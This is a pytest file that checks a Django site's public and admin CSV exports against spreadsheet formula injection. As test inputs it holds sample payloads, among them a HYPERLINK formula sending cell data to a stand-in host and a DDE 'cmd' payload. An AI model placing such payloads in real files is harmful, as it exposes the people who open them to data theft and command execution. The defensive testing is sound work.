"""Testing that no CSV the site produces holds a cell a spreadsheet would run as a formula.

A display name, an amendment's text or reason, or a donor's name starting with `=`, `+`,
`-`, `@`, a tab or a carriage return came out as a live formula in the public amendment
book and in the admin's exports, which moderators open in a spreadsheet.
"""

import csv
import io

import pytest
from django.urls import reverse

from cms.spreadsheets import safe_cell
from crowdfund.models import Donation, Method
from manifesto.models import Amendment

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


def live_formulas(rows) -> list[str]:
    return [
        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_kept_as_text(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell(-5) == -5 and safe_cell("Ada") == "Ada"


@pytest.fixture
def formulas_everywhere(on_world):
    author = on_world.users["other"]
    author.display_name = FORMULAS[0]
    author.save()
    Amendment.objects.filter(pk=on_world.amendment_id).update(text=FORMULAS[1], reason=FORMULAS[2])
    for value in FORMULAS[3:]:
        Donation.objects.create(
            crowdfund=on_world.pages["crowdfund"],
            amount_pence=2_500,
            name=value,
            email="ada@example.com",
            address=value,
            method=Method.CASH,
        )
    return on_world


def test_the_public_amendment_book_holds_no_formula(client, formulas_everywhere):
    manifesto = formulas_everywhere.pages["manifesto"]
    rows = rows_of(client.get(f"{manifesto.url}export/amendments/"))
    assert live_formulas(rows) == []
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["author"] == "'" + FORMULAS[0]
    assert record["proposed text"] == "'" + FORMULAS[1]


@pytest.mark.parametrize(
    "address",
    [
        reverse("wagtailsnippets_manifesto_amendment:list") + "?export=csv",
        reverse("crowdfund_donations:index") + "?export=csv",
    ],
    ids=["amendments", "donations"],
)
def test_the_admin_exports_hold_no_formula(client, formulas_everywhere, address):
    client.force_login(formulas_everywhere.users["editor"])
    response = client.get(address)
    assert response.status_code == 200
    rows = rows_of(response)
    assert len(rows) > 1
    assert live_formulas(rows) == []
    assert any(cell.startswith("'") for row in rows[1:] for cell in row)
